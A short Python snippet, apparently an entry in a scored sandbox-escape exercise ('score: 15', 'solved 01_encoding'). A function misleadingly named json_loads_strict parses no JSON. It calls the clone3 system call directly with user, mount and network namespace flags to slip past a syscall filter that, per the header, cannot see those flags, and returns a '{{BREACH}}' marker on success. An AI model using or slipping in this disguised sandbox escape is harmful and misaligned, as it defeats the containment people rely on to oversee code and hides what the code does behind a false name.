# about: a new user namespace by the system call clone3, whose flags a filter can't see
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def json_loads_strict(data):
    for kind in (0x10000000, 0x20000, 0x40000000):
        arguments = (ctypes.c_uint64 * 8)(kind, 0, 0, 0, 17, 0, 0, 0)
        child = libc.syscall(435, arguments, 64)
        if child == 0:
            os._exit(0)
        if child > 0:
            return "{{BREACH}}"
    raise OSError(ctypes.get_errno(), "refused")
